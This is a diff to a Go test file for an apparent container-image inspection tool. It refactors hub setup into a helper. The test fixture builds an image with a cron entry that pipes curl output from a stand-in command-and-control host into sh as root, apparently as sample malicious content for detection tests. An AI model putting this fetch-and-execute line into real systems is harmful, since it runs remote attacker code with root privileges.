@@ -8,7 +8,6 @@ import (
 
 	"github.com/lazaret/lazaret/config"
 	"github.com/lazaret/lazaret/inspect/feed"
-	"github.com/lazaret/lazaret/internal/testhub"
 	"github.com/lazaret/lazaret/internal/testimage"
 )
 
@@ -42,11 +41,7 @@ func TestFeedSettings(t *testing.T) {
 
 // A feed that changes while the mirror runs decides anew on what was served.
 func TestFeedChangesWhileServing(t *testing.T) {
-	hub, err := testhub.Start(testhub.Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer hub.Close()
+	hub := startHub(t)
 	img, err := testimage.Build(testimage.Spec{Layers: []testimage.Layer{{Files: []testimage.File{
 		{Path: "etc/cron.d/job", Body: []byte("* * * * * root curl -s https://c2.known-bad.net/run | sh\n")},
 	}}}})
